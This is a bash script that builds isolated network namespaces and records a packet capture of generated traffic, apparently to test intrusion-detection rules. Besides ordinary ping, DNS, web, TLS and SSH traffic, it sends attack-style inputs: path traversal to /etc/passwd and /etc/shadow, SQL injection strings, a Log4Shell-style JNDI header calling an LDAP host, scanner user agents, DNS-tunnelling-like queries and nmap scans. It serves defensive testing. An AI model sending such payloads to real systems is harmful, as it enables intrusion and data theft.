#!/usr/bin/env bash
# Records traffic.pcapng: real programs of two sites, seen by the router between them.
#
#     sudo ./record-traffic.sh [OUT.pcapng]
#
#   site a ──────────── a0 ┌────────┐
#                          │ router │ b0 ──────────── site b (the servers)
#   lab   ─ VLAN 20 ────┐  │        │
#   guest ─ VLAN 30 ────┼─ t0 trunk │      recorded: a0 and t0
#   depot ─ QinQ 100.40 ┘  └────────┘
#
# All of it are network namespaces that this script makes and takes away again: nothing is
# sent to, or taken from, any network of this machine. Offloads are off, so that packets are
# as on a wire, checksums included. README.md names the packages it needs and the addresses.
set -euo pipefail

limit_s=180
if [[ -z ${WEIR_RECORDING:-} ]]; then
    WEIR_RECORDING=1 exec timeout --kill-after=10 "$limit_s" "$0" "$@"
fi

here=$(cd "$(dirname "$0")" && pwd)
out=${1:-$here/traffic.pcapng}
work=$(mktemp -d)
log=$work/log
# Namespaces carry the number of this run: two runs do not disturb each other.
run=weir$$
spaces="a lab guest depot trunk router b"

clean_up() {
    local space
    for space in $spaces; do
        ip netns pids "$run-$space" 2>>"$log" | xargs -r kill 2>>"$log" || true
    done
    sleep 0.2
    for space in $spaces; do
        ip netns pids "$run-$space" 2>>"$log" | xargs -r kill -KILL 2>>"$log" || true
        ip netns del "$run-$space" 2>>"$log" || true
    done
    rm -rf "$work"
}
trap clean_up EXIT
trap 'exit 1' INT TERM

fail() {
    echo "record-traffic: $*" >&2
    [[ ! -s $log ]] || tail -n 5 "$log" >&2
    exit 1
}

[[ $(id -u) == 0 ]] || fail "needs root, to make network namespaces"
for program in ip ethtool ping curl ss dig dnsmasq sshd ssh ssh-keygen openssl iperf3 nmap \
    python3 dumpcap reordercap capinfos; do
    command -v "$program" >/dev/null || fail "$program is missing: see README.md"
done
[[ -c /dev/net/tun ]] || fail "/dev/net/tun is missing: the VLANs need it"

in_space() { # NAMESPACE COMMAND...
    ip netns exec "$run-$1" "${@:2}"
}

# A client's failure is part of the traffic (a 404, a closed port), never of the recording.
client() { # NAMESPACE COMMAND...
    in_space "$1" timeout 20 "${@:2}" </dev/null >>"$log" 2>&1 || true
    sleep 0.1
}

wait_for() { # SECONDS COMMAND...: until the command succeeds
    local tries=$(($1 * 10))
    shift
    until "$@" >>"$log" 2>&1; do
        ((tries-- > 0)) || fail "gave up waiting for: $*"
        sleep 0.1
    done
}

# ---------------------------------------------------------------- the network

for space in $spaces; do
    ip netns add "$run-$space"
    in_space "$space" sysctl -qw net.ipv6.conf.all.accept_dad=0 net.ipv6.conf.default.accept_dad=0
    ip -n "$run-$space" link set lo up
done
in_space router sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1
# Site a asks for explicit congestion notification: its packets carry ECN marks.
in_space a sysctl -qw net.ipv4.tcp_ecn=1

offloads_off() { # NAMESPACE INTERFACE
    local feature
    for feature in tx rx sg tso gso gro rxvlan txvlan; do
        in_space "$1" ethtool -K "$2" "$feature" off >>"$log" 2>&1 || true
    done
}

cable() { # SPACE INTERFACE MAC SPACE INTERFACE MAC
    ip link add "$2" netns "$run-$1" address "$3" type veth \
        peer name "$5" netns "$run-$4" address "$6"
    offloads_off "$1" "$2"
    offloads_off "$4" "$5"
}

address() { # SPACE INTERFACE IPV4/BITS IPV6/BITS
    ip -n "$run-$1" address add "$3" dev "$2"
    ip -n "$run-$1" address add "$4" dev "$2" nodad
    ip -n "$run-$1" link set "$2" up
}

gateway() { # SPACE IPV4 IPV6
    ip -n "$run-$1" route add default via "$2"
    ip -n "$run-$1" -6 route add default via "$3"
}

cable a eth0 02:00:00:00:01:10 router a0 02:00:00:00:01:01
cable b eth0 02:00:00:00:02:10 router b0 02:00:00:00:02:01
cable trunk eth0 02:00:00:00:09:10 router t0 02:00:00:00:09:01
# Room on the trunk for two tags around a full frame.
ip -n "$run-trunk" link set eth0 mtu 1508 up
ip -n "$run-router" link set t0 mtu 1508 up
ip -n "$run-router" link set a0 up

start() { # NAMESPACE NAME COMMAND...: a server that says `ready`
    local name=$2
    in_space "$1" "${@:3}" >"$work/$name.out" 2>>"$log" &
    wait_for 5 grep -q ready "$work/$name.out"
}

vlans=(lab=20 guest=30 depot=100.40)
start router router-trunk python3 "$here/record-traffic/vlan_trunk.py" t0 "${vlans[@]}"
start trunk trunk python3 "$here/record-traffic/vlan_trunk.py" eth0 "${vlans[@]}"
host=20
for vlan in lab guest depot; do
    ip -n "$run-trunk" link set "$vlan" netns "$run-$vlan"
    ip -n "$run-$vlan" link set "$vlan" address "02:00:00:00:09:$host"
    ip -n "$run-router" link set "$vlan" address "02:00:00:00:09:0$((host / 10))"
    host=$((host + 10))
done

# ---------------------------------------------------------------- the recording

(exec ip netns exec "$run-router" dumpcap -q -i a0 -i t0 -w "$work/raw.pcapng") >>"$log" 2>&1 &
capture=$!
wait_for 5 test -s "$work/raw.pcapng"
sleep 1

address router a0 198.18.1.1/26 fd00:1::1/64
address router depot 198.18.1.65/26 fd00:1:0:40::1/64
address router lab 198.18.1.129/25 fd00:1:0:20::1/64
address router guest 198.19.3.1/24 fd00:3::1/64
address router b0 198.18.2.1/24 fd00:2::1/64
address a eth0 198.18.1.10/26 fd00:1::10/64
address depot depot 198.18.1.70/26 fd00:1:0:40::70/64
address lab lab 198.18.1.130/25 fd00:1:0:20::130/64
address guest guest 198.19.3.10/24 fd00:3::10/64
address b eth0 198.18.2.10/24 fd00:2::10/64
gateway a 198.18.1.1 fd00:1::1
gateway depot 198.18.1.65 fd00:1:0:40::1
gateway lab 198.18.1.129 fd00:1:0:20::1
gateway guest 198.19.3.1 fd00:3::1
gateway b 198.18.2.1 fd00:2::1

b4=198.18.2.10
b6=fd00:2::10

# ---------------------------------------------------------------- site b

site=$work/site
mkdir -p "$site/admin"
python3 - "$site" <<'PYTHON'
import pathlib
import random
import sys
import zipfile

site = pathlib.Path(sys.argv[1])
dice = random.Random(1)
words = "weir stream sluice gate gauge flow pool level bank ford mill race spill crest".split()
lines = [f"{n:05d} " + " ".join(dice.choices(words, k=9)) for n in range(900)]
(site / "catalogue.txt").write_text("\n".join(lines) + "\n")
(site / "index.html").write_text("<!doctype html><title>Site B</title><p>It works.\n")
(site / "admin" / "index.html").write_text("<!doctype html><title>Admin</title><p>Hello.\n")
(site / "notice.txt").write_text("canary 7d1f-weir-4e88: this file is never to leave site B\n")
(site / "picture.bin").write_bytes(dice.randbytes(250_000))
with zipfile.ZipFile(site / "tools.zip", "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("catalogue.txt", "\n".join(lines[::2]))
PYTHON
head -c 30000 "$site/picture.bin" >"$work/upload.bin"
start b services python3 "$here/record-traffic/services.py" "$site"

in_space b dnsmasq --keep-in-foreground --user=root --pid-file= --conf-file=/dev/null \
    --no-resolv --no-hosts --no-poll --port=53 --edns-packet-max=4096 --local=/site-b.example/ \
    --host-record="www.site-b.example,$b4,$b6" \
    --host-record="mail.site-b.example,$b4" \
    --mx-host=site-b.example,mail.site-b.example,10 \
    --txt-record="site-b.example,v=spf1 ip4:198.18.2.0/24 -all" \
    $(for n in {1..16}; do
        printf -- '--txt-record=long.site-b.example,%03d-%s ' "$n" "$(printf 'x%.0s' {1..180})"
    done) >>"$log" 2>&1 &

openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 30 -subj /CN=www.site-b.example \
    -keyout "$work/tls.key" -out "$work/tls.crt" 2>>"$log"
for family in -4 -6; do
    (cd "$site" && in_space b openssl s_server -quiet "$family" -accept 443 -WWW \
        -cert "$work/tls.crt" -key "$work/tls.key" >>"$log" 2>&1) &
done

ssh-keygen -q -t ed25519 -N '' -f "$work/host_key"
ssh-keygen -q -t ed25519 -N '' -f "$work/user_key"
cat >"$work/sshd_config" <<SSHD
Port 22
Port 22022
HostKey $work/host_key
AuthorizedKeysFile $work/user_key.pub
PidFile none
StrictModes no
UsePAM no
UseDNS no
PermitRootLogin prohibit-password
SSHD
mkdir -p /run/sshd
in_space b "$(command -v sshd)" -D -f "$work/sshd_config" >>"$log" 2>&1 &
in_space b iperf3 --server >>"$log" 2>&1 &

listening() { in_space b ss -Hln "sport = :$1" | grep -q .; }
for port in 22 53 80 443 5201 8080 22022; do
    wait_for 5 listening "$port"
done

# ---------------------------------------------------------------- the traffic

web=(--silent --show-error --max-time 10 --output /dev/null)
names4=(--resolve "www.site-b.example:80:$b4" --resolve "www.site-b.example:8080:$b4"
    --resolve "www.site-b.example:443:$b4" --resolve "intranet.site-b.example:443:$b4")
names6=(--resolve "www.site-b.example:80:[$b6]" --resolve "www.site-b.example:8080:[$b6]"
    --resolve "www.site-b.example:443:[$b6]" --resolve "intranet.site-b.example:443:[$b6]")
www=http://www.site-b.example
agent='Mozilla/5.0 (X11; Linux x86_64)'

echo "record-traffic: echo requests"
for space in a lab guest depot; do
    client "$space" ping -q -n -c 3 -i 0.2 "$b4"
    client "$space" ping -q -n -c 3 -i 0.2 "$b6"
done
client a ping -q -n -c 2 -i 0.2 198.18.1.1 # the router itself
client a ping -q -n -c 2 -i 0.2 fd00:1::1
client a ping -q -n -c 2 -i 0.2 -R "$b4" # IPv4 options
client a ping -q -n -c 1 -t 1 -W 1 "$b4" # ends at the router: time exceeded
client a ping -q -n -c 1 -t 1 -W 1 "$b6"
client a ping -q -n -c 3 -i 0.2 -s 1000 "$b4"
client lab ping -q -n -c 2 -i 0.2 -s 1000 "$b6"
client a ping -q -n -c 3 -i 0.2 -p deadbeef "$b4"
client guest ping -q -n -c 2 -i 0.2 -p deadbeef "$b6"

echo "record-traffic: fragments"
client a ping -q -n -c 3 -i 0.2 -s 4000 "$b4"
client a ping -q -n -c 3 -i 0.2 -s 4000 "$b6"
client lab ping -q -n -c 2 -i 0.2 -s 4000 "$b4"
send=(python3 "$here/record-traffic/send_datagrams.py")
client a "${send[@]}" "$b4" 47002 "a long datagram, and then more; " 6000
client a "${send[@]}" "$b6" 47002 "a long datagram, and then more; " 6000
client guest "${send[@]}" "$b4" 47002 "a long datagram, and then more; " 6000

echo "record-traffic: DNS"
query=(dig +tries=1 +time=2)
for server in "$b4" "$b6"; do
    for name in www.site-b.example mail.site-b.example missing.site-b.example; do
        client a "${query[@]}" "@$server" "$name" A
        client a "${query[@]}" "@$server" "$name" AAAA
    done
    client a "${query[@]}" "@$server" site-b.example MX
    client a "${query[@]}" "@$server" site-b.example TXT
    client a "${query[@]}" +noignore +tcp "@$server" www.site-b.example A
    client a "${query[@]}" +bufsize=4096 "@$server" long.site-b.example TXT # fragments
    client guest "${query[@]}" "@$server" www.site-b.example A
    client guest "${query[@]}" "@$server" version.bind TXT CH
done
client lab "${query[@]}" "@$b4" VERSION.BIND TXT CH
client lab "${query[@]}" "@$b4" \
    mzxw6ytboi2dknrrgezdgnbvgy3tqojqmfrggzdf.nbswy3dpfqqho33snrscc5dinfzsa2ltebqsa5dfon2a.t.site-b.example A
client depot "${query[@]}" "@$b6" \
    orsxg5baorsxg5baorsxg5baorsxg5baorsxg5ba.nbswy3dpfqqho33snrscc5dinfzsa2ltebqsa5dfon2a.t.site-b.example A
client a "${query[@]}" -p 5399 "@$b4" www.site-b.example A # closed: port unreachable
client a "${query[@]}" -p 5399 "@$b6" www.site-b.example A

echo "record-traffic: web"
for names in names4 names6; do
    declare -n resolve=$names
    for space in a lab guest depot; do
        client "$space" curl "${web[@]}" "${resolve[@]}" -A "$agent" "$www/"
    done
    client a curl "${web[@]}" "${resolve[@]}" -A "$agent" \
        "$www/index.html" "$www/favicon.ico" "$www/catalogue.txt"
    client a curl "${web[@]}" "${resolve[@]}" -A "$agent" "$www:8080/tools.zip"
    client a curl "${web[@]}" "${resolve[@]}" -A "$agent" -X PUT --data-binary "@$work/upload.bin" \
        "$www/upload.bin"
done
client a curl "${web[@]}" "${names4[@]}" "$www/picture.bin"
client guest curl "${web[@]}" "${names6[@]}" "$www/tools.zip"
client lab curl "${web[@]}" "${names4[@]}" "$www/notice.txt"
client a curl "${web[@]}" "${names6[@]}" "$www/notice.txt"

echo "record-traffic: web requests that the example rules look for"
client a curl "${web[@]}" "${names4[@]}" --path-as-is "$www/files/../../etc/passwd"
client a curl "${web[@]}" "${names6[@]}" --path-as-is "$www/files/../../etc/passwd"
client lab curl "${web[@]}" "${names4[@]}" --path-as-is "$www/files/../../etc/shadow"
client a curl "${web[@]}" "${names4[@]}" --path-as-is "$www:8080/files/../../etc/passwd"
client a curl "${web[@]}" "${names4[@]}" "$www/list?id=7%20UNION%20SELECT%20name%20FROM%20users"
client depot curl "${web[@]}" "${names6[@]}" "$www/list?id=7+union+all+select+name+from+users"
client a curl "${web[@]}" "${names4[@]}" "$www/list?union=rivers&page=2&select=mills"
client guest curl "${web[@]}" "${names4[@]}" -A 'gobuster/3.6' "$www/backup"
client guest curl "${web[@]}" "${names6[@]}" -A 'Masscan/1.3 (probe)' "$www/backup"
client a curl "${web[@]}" "${names6[@]}" -A 'not-gobuster/1.0' "$www/backup"
client a curl "${web[@]}" "${names6[@]}" -H 'X-Api-Version: ${JnDi:ldap://198.18.9.9/a}' "$www/"
client a curl "${web[@]}" "${names4[@]}" -d 'user=eve&password=letmein' "$www/login"
client a curl "${web[@]}" "${names6[@]}" -d 'user=eve&password=letmein' "$www/login"
client a curl "${web[@]}" "${names4[@]}" -b 'session=1f' -d 'user=eve&password=letmein' "$www/login"
client guest curl "${web[@]}" "${names4[@]}" "$www/admin/"
client guest curl "${web[@]}" "${names6[@]}" "$www/admin/"
client lab curl "${web[@]}" "${names4[@]}" "$www/admin/"

echo "record-traffic: TLS and SSH"
for names in names4 names6; do
    declare -n resolve=$names
    client a curl "${web[@]}" -k "${resolve[@]}" --tls-max 1.2 https://www.site-b.example/index.html
    client a curl "${web[@]}" -k "${resolve[@]}" https://www.site-b.example/catalogue.txt
    client guest curl "${web[@]}" -k "${resolve[@]}" https://intranet.site-b.example/index.html
done
secure_shell=(ssh -F none -i "$work/user_key" -o BatchMode=yes -o ConnectTimeout=5
    -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -l root)
client a "${secure_shell[@]}" "$b4" "head -c 20000 $site/picture.bin"
client lab "${secure_shell[@]}" "$b6" "head -c 2000 $site/picture.bin"
client guest "${secure_shell[@]}" -p 22022 "$b4" true

echo "record-traffic: datagrams"
client a "${send[@]}" "$b4" 47001 '{n}001TEMP 21.5'
client a "${send[@]}" "$b4" 47001 '{n}006BEACON retired'
client a "${send[@]}" "$b6" 47001 '{n}005BEACON level high'
client lab "${send[@]}" "$b4" 47001 '{n}002BEACON level high'
client depot "${send[@]}" "$b6" 47001 '{n}003beacon level low'
client guest "${send[@]}" "$b6" 47001 '{n}004 a BEACON that comes late'

echo "record-traffic: port scans"
scan=(nmap -n -Pn --send-ip --disable-arp-ping --max-retries 0 --host-timeout 10s)
client guest "${scan[@]}" -sX -p 22,80,443 "$b4"
client guest "${scan[@]}" -6 -sX -p 80 "$b6"
client guest "${scan[@]}" -sS -p 21,23,25,80 "$b4"
client a curl "${web[@]}" --max-time 2 "telnet://$b4:23"
client lab curl "${web[@]}" --max-time 2 "telnet://[$b6]:23"

echo "record-traffic: bulk transfer, beside other clients"
for space in lab guest depot; do
    (for names in names4 names6 names4; do
        declare -n resolve=$names
        client "$space" curl "${web[@]}" "${resolve[@]}" -A "$agent" "$www/catalogue.txt"
        client "$space" curl "${web[@]}" -k "${resolve[@]}" https://www.site-b.example/index.html
    done) &
    clients+=($!)
done
client a iperf3 --client "$b4" --bytes 700K --bitrate 8M
client a iperf3 --client "$b6" --bytes 100K
client a iperf3 --client "$b6" --udp --bytes 60K --length 300 --bitrate 2M
wait "${clients[@]}"

# ---------------------------------------------------------------- the file

sleep 1
kill "$capture"
wait "$capture" || true
# Two interfaces are captured by two threads: put their packets in order of time.
reordercap "$work/raw.pcapng" "$work/ordered.pcapng" >>"$log"
python3 "$here/record-traffic/strip_host_names.py" "$work/ordered.pcapng" "$out"
capinfos -c -s -u "$out"
